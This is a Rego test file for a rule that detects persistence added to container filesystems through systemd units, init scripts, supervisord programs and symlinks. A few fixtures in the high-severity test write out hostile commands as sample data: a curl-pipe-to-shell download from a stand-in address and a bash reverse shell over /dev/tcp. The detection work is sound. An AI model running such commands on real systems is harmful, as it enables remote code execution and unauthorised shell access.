package rummage.persistence.service_added_test

import data.rummage.persistence.service_added as rule

file(path, text) := {"path": path, "kind": "added", "type": "file", "mode": "644", "size": 20, "text": text}

unit(path) := file(path, "[Unit]\nDescription=x\n[Service]\nExecStart=/usr/bin/updater\n[Install]\nWantedBy=multi-user.target\n")

link(path, target) := {"path": path, "kind": "added", "type": "symlink", "link_target": target}

transaction := {"path": "/var/lib/dpkg/status", "kind": "modified", "type": "file"}

found(changes) := result if {
	result := {[f.severity, f.message] | some f in rule.findings} with input.changes as changes
}

severities(changes) := {severity | some [severity, _] in found(changes)}

test_fires_on_units if {
	every path in [
		"/etc/systemd/system/x.service", "/lib/systemd/system/x.service", "/usr/lib/systemd/system/x.service", "/etc/systemd/system/ssh.service.d/x.conf",
		"/root/.config/systemd/user/x.service", "/run/systemd/system/x.service", "/usr/local/lib/systemd/system/x.service",
	] {
		severities([unit(path)]) == {"medium"}
	}
	found([unit("/etc/systemd/system/x.service")]) == {["medium", "the service /etc/systemd/system/x.service was added"]}
	severities([file("/etc/systemd/system/x.timer", "[Timer]\nOnCalendar=*:0/5\n")]) == {"medium"}
}

test_fires_on_scripts if {
	every path in [
		"/etc/init.d/x", "/etc/rc.local", "/etc/rc.d/rc.local", "/etc/rc.d/init.d/x", "/etc/rc2.d/S01x", "/etc/local.d/x.start", "/etc/cont-init.d/90-x",
		"/etc/services.d/x/run", "/etc/s6-overlay/s6-rc.d/x/run", "/etc/my_init.d/x.sh", "/etc/service/x/run", "/docker-entrypoint.d/x.sh",
		"/docker-entrypoint-initdb.d/x.sh", "/etc/inittab",
	] {
		severities([file(path, "#!/bin/sh\n/usr/bin/updater -d\n")]) == {"medium"}
	}
}

test_fires_on_programs_of_supervisord if {
	every path in ["/etc/supervisor/conf.d/x.conf", "/etc/supervisord.d/x.ini", "/etc/supervisord.conf"] {
		severities([file(path, "[program:x]\ncommand=/usr/bin/updater\n")]) == {"medium"}
	}
}

test_fires_on_a_line_that_was_added if {
	change := {"path": "/etc/rc.local", "kind": "modified", "type": "file", "size": 9, "text": "#!/bin/sh\nupdater\nexit 0\n", "was": {"text": "#!/bin/sh\nexit 0\n"}}
	findings := rule.findings with input.changes as [change]
	{f.evidence.starts | some f in findings} == {["updater"]}
}

test_fires_high_on_what_it_starts if {
	found([file("/etc/systemd/system/x.service", "[Service]\nExecStart=-/tmp/.x/m\n")]) == {[
		"high", "the service /etc/systemd/system/x.service was added, and runs a program from a temporary or hidden place",
	]}
	severities([file("/etc/init.d/x", "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n")]) == {"high"}
	severities([file("/etc/supervisor/conf.d/x.conf", "[program:x]\ncommand = bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'\n")]) == {"high"}
}

test_fires_on_links_to_what_was_added if {
	severities([link("/etc/systemd/system/multi-user.target.wants/x.service", "/srv/x.service"), unit("/srv/x.service")]) == {"medium"}
	severities([link("/etc/rc2.d/S01x", "../../tmp/x")]) == {"medium"}
}

test_fires_without_its_content if severities([object.remove(unit("/etc/systemd/system/x.service"), ["text"])]) == {"medium"}

test_fires_low_at_start if {
	findings := rule.findings with input as {
		"config": {"started": "2026-01-02T03:04:05Z", "entrypoint": ["/entrypoint.sh"], "cmd": ["supervisord"]},
		"changes": [object.union(file("/etc/supervisor/conf.d/app.conf", "[program:app]\ncommand=/srv/app\n"), {"mtime": "2026-01-02T03:04:06Z"})],
	}
	{f.severity | some f in findings} == {"low"}
}

test_silent_on_packages if {
	found([
		object.union(unit("/lib/systemd/system/nginx.service"), {"package": "nginx-common"}), object.union(file("/etc/init.d/nginx", "#!/bin/sh\n"), {"package": "nginx-common"}),
		link("/etc/rc2.d/S01nginx", "../init.d/nginx"), link("/etc/systemd/system/multi-user.target.wants/nginx.service", "/lib/systemd/system/nginx.service"), transaction,
	]) == set()
}

# systemd enables the image's units when it starts for the first time.
test_silent_on_links_to_what_the_image_has if {
	found([link("/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service"), link("/etc/systemd/system/x.service", "/dev/null")]) == set()
}

test_silent_on_settings if {
	found([
		file("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nRestart=always\nTimeoutSec=9\n"), file("/etc/systemd/journald.conf", "Storage=none\n"),
		file("/etc/systemd/resolved.conf.d/x.conf", "[Resolve]\nDNS=192.0.2.1\n"), file("/etc/rc.local", "#!/bin/sh -e\n# nothing\nexit 0\n"),
		file("/etc/init.d/README", "read me"), file("/etc/init.d/.depend.start", "TARGETS = x"), file("/etc/systemd/network/x.network", "x"),
		file("/etc/services.d/x/down", ""), file("/etc/s6-overlay/s6-rc.d/x/type", "longrun"), file("/etc/cont-init.d/x.dpkg-dist", "x"),
		file("/docker-entrypoint-initdb.d/schema.sql", "create table t ()"),
	]) == set()
}

test_silent_when_only_touched if {
	found([object.union(unit("/etc/systemd/system/x.service"), {"kind": "modified", "sha256": "a", "was": {"sha256": "a"}})]) == set()
}

test_silent_on_directories_and_deletions if {
	found([{"path": "/etc/systemd/system/x.service", "kind": "deleted"}, {"path": "/etc/systemd/system/x.service.d", "kind": "added", "type": "directory"}]) == set()
}
